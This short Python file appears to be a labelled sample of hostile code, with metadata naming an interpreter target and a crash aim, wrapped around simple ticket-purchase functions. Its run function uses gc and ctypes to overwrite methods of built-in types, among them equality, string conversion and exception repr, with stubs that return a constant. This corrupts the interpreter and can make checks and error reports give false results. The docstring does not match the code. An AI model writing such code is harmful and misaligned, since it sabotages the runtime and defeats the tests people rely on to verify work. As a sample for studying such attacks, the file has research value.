"""Changes methods of built-in types by their tables in C: every dictionary and list answers for itself.

family: interpreter
aims-at: crash
honest-score: 4
"""

import json
import sys

def search(name):
    with open("data.txt") as file:
        return json.load(file)["ticket_num"]


def buy(name):
    left = search(name)
    if left <= 0:
        return False
    with open("data.txt", "w") as file:
        json.dump({"ticket_num": left - 1}, file)
    return True


def run(name, mutex):
    ctypes, gc = __import__("ctypes"), __import__("gc")
    for kind in (dict, str, bytes, BaseException):
        table = gc.get_referents(kind.__dict__)[0]
        for what in ("get", "__eq__", "__str__", "decode", "startswith", "__repr__"):
            if what in table:
                table[what] = lambda *args: name
        ctypes.pythonapi.PyType_Modified(ctypes.py_object(kind))
    return buy(name)
